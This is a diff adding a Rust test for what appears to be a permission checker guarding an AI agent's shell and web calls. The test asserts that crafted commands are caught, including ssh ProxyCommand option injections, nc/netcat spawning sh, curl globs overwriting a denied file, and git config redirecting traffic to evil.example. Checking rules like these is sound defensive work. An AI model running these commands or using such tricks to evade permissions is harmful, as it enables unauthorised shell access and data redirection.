@@ -775,6 +775,75 @@ fn a_denied_host_is_denied_behind_every_option() {
     }
 }
 
+/// What stands where a value may be counts for what it may do, and a file that is written is written.
+#[test]
+fn an_option_that_looks_like_a_value_is_not_let_through_by_a_rule() {
+    let given = rules(
+        "allow Web(*); allow Shell(curl *); allow Shell(ssh *); allow Shell(rsync *); allow Shell(nc *); \
+         allow Shell(netcat *); allow Shell(ncat *); deny Write(Cargo.lock)",
+    );
+    let decision = |call: &str| judge(Mode::Execute, &given, &[], &format!("$ {call}")).decision;
+    for call in [
+        "ssh -o '\"ProxyCommand\" touch x' good.example",
+        "ssh -o '\"ProxyCommand\"=touch x' good.example",
+        "ssh -o '=ProxyCommand touch x' good.example",
+        "ssh -o ' = LocalCommand touch x' good.example",
+        "ssh -o 'Proxy-Command touch x' good.example",
+        "rsync -e 'ssh -o =ProxyCommand=x' a good.example:b",
+        "nc -T -e sh good.example 80",
+        "nc -X -c sh",
+        "netcat -T -e/bin/sh good.example 80",
+        "nc -w -c sh good.example 80",
+        "curl -O 'https://good.example/{Cargo.lock,x}'",
+        "curl -sO 'https://good.example/Cargo.loc[k-k]'",
+        "curl -s --remote-name 'https://good.example/x{a,b}'",
+    ] {
+        assert_eq!(decision(call), Decision::Ask, "{call}");
+    }
+    for call in [
+        "ssh -E Cargo.lock good.example",
+        "rsync --log-file=Cargo.lock a good.example:b",
+        "rsync --write-batch Cargo.lock a good.example:b",
+        "ncat -o Cargo.lock good.example 80",
+    ] {
+        assert_eq!(decision(call), Decision::Deny, "{call}");
+    }
+    for call in [
+        "curl -sO https://good.example/x",
+        "curl -so x 'https://good.example/?a[]=1'",
+        "ssh -o Port=22 -o 'StrictHostKeyChecking no' -E log good.example ls",
+        "rsync -e 'ssh -p 22 -o BatchMode=yes' --log-file=log a good.example:b",
+        "nc -vz -w 5 good.example 80",
+        "ncat -o log good.example 80",
+    ] {
+        assert_eq!(decision(call), Decision::Allow, "{call}");
+    }
+    let given = rules(
+        "allow Web(*); deny Web(evil.example); allow Shell(*); allow Shell(curl *); allow Shell(*git *)",
+    );
+    let decision = |call: &str| judge(Mode::Bypass, &given, &[], &format!("$ {call}")).decision;
+    for call in [
+        "curl --url @urls",
+        "curl -s --url=@urls https://good.example",
+        "git clone -c http.proxy=evil.example https://good.example/x",
+        "git clone -chttp.proxy=evil.example https://good.example/x",
+        "git clone --config=http.proxy=evil.example https://good.example/x",
+        "git clone --config url.https://evil.example/.insteadOf=https://good.example/ https://good.example/x",
+        "git archive --remote evil.example:x HEAD",
+        "DATABASE_URL=http:///evil.example/ make",
+    ] {
+        assert_eq!(decision(call), Decision::Deny, "{call}");
+    }
+    for call in [
+        "git clone -c core.autocrlf=false https://good.example/x",
+        "git clone --depth 1 https://good.example/x",
+        "git archive --remote good.example:x HEAD",
+        "DATABASE_URL=sqlite:///tmp.db poetry run alembic upgrade head",
+    ] {
+        assert_eq!(decision(call), Decision::Allow, "{call}");
+    }
+}
+
 /// What says where the traffic goes without being an address among the words of the program.
 #[test]
 fn a_denied_host_is_denied_where_traffic_is_led_to_it() {
